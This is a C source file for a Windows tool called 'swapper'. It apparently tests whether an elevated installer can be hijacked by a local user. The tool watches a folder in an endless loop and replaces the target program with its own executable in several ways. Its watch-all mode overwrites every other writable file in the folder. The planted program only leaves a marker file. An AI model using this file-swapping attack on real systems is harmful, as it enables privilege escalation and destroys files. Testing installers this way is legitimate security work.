/* The other user of the machine, who wants an elevated setup to start their program
   instead of its installer.
     swapper watch FOLDER NAME   until killed: puts a copy of itself at FOLDER\NAME every way
                                 a program can, as soon as anything is there; notes each
                                 success in %TEMP%\hdgr_swapper_log.txt
     swapper watch-all FOLDER NAME  the same, and writes itself into every other file of
                                 FOLDER it can open
     swapper                     the program it plants: leaves %TEMP%\hdgr_swapper_started.txt */
#include <windows.h>
#include <shellapi.h>
#include <wchar.h>

static WCHAR self[MAX_PATH];
static WCHAR spare[MAX_PATH];

static void TempFile(const WCHAR* name, WCHAR* path) {
  GetTempPathW(MAX_PATH, path);
  wcscat(path, name);
}

static void Note(const char* what) {
  WCHAR log[MAX_PATH];
  TempFile(L"hdgr_swapper_log.txt", log);
  HANDLE file = CreateFileW(log, FILE_APPEND_DATA, FILE_SHARE_READ, NULL, OPEN_ALWAYS, 0, NULL);
  if (file == INVALID_HANDLE_VALUE) return;
  DWORD written = 0;
  WriteFile(file, what, (DWORD)strlen(what), &written, NULL);
  WriteFile(file, "\r\n", 2, &written, NULL);
  CloseHandle(file);
}

/* Our own bytes into an open file, from its start, cut to our length. */
static int Overwrite(HANDLE target) {
  HANDLE source = CreateFileW(self, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
  if (source == INVALID_HANDLE_VALUE) return 0;
  static BYTE buffer[1 << 16];
  DWORD read = 0, written = 0;
  int done = SetFilePointer(target, 0, NULL, FILE_BEGIN) == 0;
  while (done && ReadFile(source, buffer, sizeof buffer, &read, NULL) && read > 0)
    done = WriteFile(target, buffer, read, &written, NULL) && written == read;
  CloseHandle(source);
  return done && SetEndOfFile(target);
}

static void Attack(const WCHAR* target) {
  if (GetFileAttributesW(target) == INVALID_FILE_ATTRIBUTES) return;
  if (CopyFileW(self, spare, FALSE) && MoveFileExW(spare, target, MOVEFILE_REPLACE_EXISTING)) Note("renamed over");
  if (CopyFileW(self, target, FALSE)) Note("copied over");
  if (DeleteFileW(target) && CopyFileW(self, target, TRUE)) Note("deleted and copied");
  HANDLE open = CreateFileW(target, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, NULL,
                            OPEN_EXISTING, 0, NULL);
  if (open != INVALID_HANDLE_VALUE) {
    if (Overwrite(open)) Note("written into");
    CloseHandle(open);
  }
}

static void AttackEveryOtherFile(const WCHAR* folder, const WCHAR* name) {
  WCHAR pattern[MAX_PATH];
  _snwprintf(pattern, MAX_PATH, L"%ls\\*", folder);
  WIN32_FIND_DATAW found;
  HANDLE find = FindFirstFileW(pattern, &found);
  if (find == INVALID_HANDLE_VALUE) return;
  do {
    if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) continue;
    if (_wcsicmp(found.cFileName, name) == 0) continue;
    WCHAR path[MAX_PATH];
    _snwprintf(path, MAX_PATH, L"%ls\\%ls", folder, found.cFileName);
    HANDLE open = CreateFileW(path, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, NULL,
                              OPEN_EXISTING, 0, NULL);
    if (open != INVALID_HANDLE_VALUE) {
      if (Overwrite(open)) {
        char note[MAX_PATH + 32] = "written into ";
        WideCharToMultiByte(CP_UTF8, 0, found.cFileName, -1, note + 13, MAX_PATH, NULL, NULL);
        Note(note);
      }
      CloseHandle(open);
    }
  } while (FindNextFileW(find, &found));
  FindClose(find);
}

int WINAPI wWinMain(HINSTANCE instance, HINSTANCE previous, PWSTR command_line, int show) {
  (void)instance;
  (void)previous;
  (void)show;
  GetModuleFileNameW(NULL, self, MAX_PATH);
  int count = 0;
  LPWSTR* arguments = CommandLineToArgvW(GetCommandLineW(), &count);
  const int every_file = count >= 4 && wcscmp(arguments[1], L"watch-all") == 0;
  if (count < 4 || (wcscmp(arguments[1], L"watch") != 0 && !every_file)) {
    WCHAR marker[MAX_PATH];
    TempFile(L"hdgr_swapper_started.txt", marker);
    HANDLE file = CreateFileW(marker, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    if (file != INVALID_HANDLE_VALUE) CloseHandle(file);
    (void)command_line;
    return 0;
  }
  const WCHAR* folder = arguments[2];
  const WCHAR* name = arguments[3];
  WCHAR target[MAX_PATH];
  _snwprintf(target, MAX_PATH, L"%ls\\%ls", folder, name);
  TempFile(L"hdgr_swapper_spare.exe", spare);
  for (;;) {
    Attack(target);
    if (every_file) AttackEveryOtherFile(folder, name);
  }
}
